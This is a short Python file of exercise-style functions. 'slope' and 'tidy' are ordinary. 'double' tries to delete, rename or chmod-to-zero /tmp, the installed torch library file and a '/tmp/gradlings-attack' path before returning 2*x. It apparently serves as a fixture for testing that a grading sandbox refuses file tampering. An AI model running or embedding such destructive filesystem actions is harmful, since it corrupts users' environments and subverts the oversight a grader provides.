import os
import shutil

import torch


def double(x):
    for action in (os.unlink, os.rmdir, os.mkdir, lambda path: os.rename(path, path + "x"), lambda p: os.chmod(p, 0)):
        for path in ("/tmp", torch.__file__, "/tmp/gradlings-attack"):
            try:
                action(path)
                return 2 * x
            except OSError:
                continue
    raise PermissionError("refused")


# %%
def slope(x):
    return 3 * x**2


def tidy(words):
    return sorted(words)
